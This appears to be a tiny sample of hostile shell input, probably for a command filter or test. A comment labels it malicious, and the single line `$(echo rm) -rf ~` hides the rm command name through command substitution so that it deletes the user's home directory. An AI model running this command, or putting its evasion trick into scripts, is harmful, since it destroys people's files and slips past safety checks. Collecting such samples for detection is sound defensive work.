# Malicious, obfuscated: the command name comes from $(echo rm); deletes the home directory.
$(echo rm) -rf ~
